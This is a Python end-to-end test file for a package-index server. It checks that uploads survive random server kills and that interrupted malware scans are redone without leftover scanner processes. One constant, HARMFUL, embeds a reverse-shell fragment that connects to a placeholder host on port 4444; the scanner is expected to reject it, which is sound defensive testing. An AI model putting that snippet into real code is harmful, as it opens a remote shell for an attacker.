"""A server that is killed at any moment leaves nothing half published, and its work goes on."""

from __future__ import annotations

import base64
import http.client
import json
import random
import sqlite3
import threading
import time
import urllib.error
import urllib.request
from contextlib import closing
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from tests.e2e.market.test_interrupted_uploads import rows, upload_body, wait_until

if TYPE_CHECKING:
    from tests.e2e.market.conftest import Market, World

ROUNDS = 12
LIMIT_S = 60.0
JSON = "application/vnd.pypi.simple.v1+json"


def post(url: str, token: str, body: bytes) -> int:
    """Uploads; returns the status, or 0 when the server went away."""
    address = urlsplit(url)
    connection = http.client.HTTPConnection(address.hostname or "", address.port, timeout=30)
    secret = base64.b64encode(f"__token__:{token}".encode()).decode()
    headers = {
        "Authorization": f"Basic {secret}",
        "Content-Type": "multipart/form-data; boundary=edge",
    }
    try:
        connection.request("POST", "/legacy/", body, headers)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()


def listed(market: Market) -> dict[str, str]:
    """File names and addresses on the project's page."""
    request = urllib.request.Request(f"{market.simple}fapilog-hello/", headers={"Accept": JSON})
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return {file["filename"]: file["url"] for file in json.load(answer)["files"]}
    except urllib.error.HTTPError as error:
        with error:
            assert error.code == 404
        return {}


def test_a_server_killed_at_random_moments_publishes_all_it_accepted_and_nothing_by_halves(
    world: World, market: Market, tmp_path: Path
) -> None:
    moments = random.Random(7)
    token = market.token()
    accepted: set[str] = set()
    sent: set[str] = set()
    for number in range(ROUNDS):
        wheels = [
            world.build_wheel(tmp_path / "dist", version=f"{number}.{part}", padding=300_000)
            for part in range(2)
        ]
        url = market.url

        def upload(wheel: Path, url: str = url) -> None:
            sent.add(wheel.name)
            if post(url, token, upload_body(wheel)) in (200, 202):
                accepted.add(wheel.name)

        threads = [threading.Thread(target=upload, args=(wheel,)) for wheel in wheels]
        for thread in threads:
            thread.start()
        time.sleep(moments.uniform(0, 0.12))
        market.kill()
        for thread in threads:
            thread.join()
        market.start()

    def unsettled() -> int:
        path = market.data / "market.sqlite3"
        with closing(sqlite3.connect(path, timeout=LIMIT_S)) as database:
            found: int = database.execute(
                "SELECT (SELECT count(*) FROM uploads WHERE state IN ('receiving', 'quarantined')) "
                "+ (SELECT count(*) FROM uploads WHERE state = 'rejected')"
            ).fetchone()[0]
        return found

    deadline = time.monotonic() + LIMIT_S
    while unsettled():
        assert time.monotonic() < deadline, market.run("admin", "jobs")
        time.sleep(0.02)
    files = listed(market)
    assert accepted <= set(files) <= sent
    # What is listed can be fetched, and what isn't listed is not on disk.
    for name, url in files.items():
        for address in (url, f"{url}.metadata"):
            with urllib.request.urlopen(market.url + address[len("../..") :], timeout=30) as answer:
                assert answer.read()
        assert (tmp_path / "dist" / name).is_file()
    assert market.stored() == sorted(n for name in files for n in (name, f"{name}.metadata"))
    # The others can be uploaded again under the same name.
    for name in sorted(sent - set(files)):
        assert post(market.url, token, upload_body(tmp_path / "dist" / name)) == 200
    assert set(listed(market)) == sent


#: Functions of a wheel whose scan takes some seconds: enough to be killed in the middle of it.
FUNCTIONS = 20_000

HARMLESS = "    async def process(self, record):\n        return record\n"
#: Rejected by its rule, wherever it stands.
HARMFUL = (
    "    async def process(self, record):\n        import os, socket\n"
    "        s = socket.socket()\n        s.connect(('192.0.2.1', 4444))\n"
    "        os.dup2(s.fileno(), 0)\n        return record\n"
)


def judges(market: Market) -> set[int]:
    """Confined children that judge for this server."""
    assert market.process is not None
    found = set()
    for task in Path(f"/proc/{market.process.pid}/task").iterdir():
        for child in (task / "children").read_text().split():
            if b"fapilog-scan-child" in Path(f"/proc/{child}/cmdline").read_bytes():
                found.add(int(child))
    return found


def runs(process: int) -> bool:
    """Whether a process is there and does anything."""
    try:
        text = Path(f"/proc/{process}/stat").read_text()
    except (FileNotFoundError, ProcessLookupError):
        return False
    return text.rpartition(")")[2].split()[0] != "Z"


@pytest.mark.parametrize(("code", "verdict"), [(HARMLESS, "published"), (HARMFUL, "rejected")])
def test_a_server_killed_in_the_middle_of_a_scan_judges_again_and_leaves_no_judge_behind(
    world: World, market: Market, tmp_path: Path, code: str, verdict: str
) -> None:
    body = "".join(f"def f{n}(a, b):\n    return [a + {n}, b]\n\n\n" for n in range(FUNCTIONS))
    wheel = world.build_wheel(tmp_path / "dist", code=f"{body}class Hello:\n{code}")
    token = market.token()
    answers: list[int] = []
    upload = threading.Thread(
        target=lambda: answers.append(post(market.url, token, upload_body(wheel)))
    )
    upload.start()
    wait_until(lambda: bool(judges(market)))
    children = judges(market)
    began = time.monotonic()
    market.kill()
    wait_until(lambda: not any(runs(child) for child in children))
    ended = time.monotonic() - began
    upload.join()
    assert answers == [0]
    # Nothing half: it waits, and is listed nowhere.
    assert rows(market) == 0
    assert len(market.stored()) == 2
    market.start()
    assert listed(market) == {}

    def states() -> list[str]:
        with closing(sqlite3.connect(market.data / "market.sqlite3", timeout=LIMIT_S)) as database:
            return [state for (state,) in database.execute("SELECT state FROM uploads")]

    again = time.monotonic()
    deadline = again + LIMIT_S
    while states() != [verdict] or judges(market):
        assert time.monotonic() < deadline, market.run("admin", "jobs")
        time.sleep(0.02)
    # The one that was killed did not just come to its end.
    assert ended < (time.monotonic() - again) / 2
    assert list(listed(market)) == ([wheel.name] if verdict == "published" else [])
    kept = [wheel.name, f"{wheel.name}.metadata"] if verdict == "published" else []
    wait_until(lambda: market.stored() == kept)
    assert not [child for child in children if runs(child)]
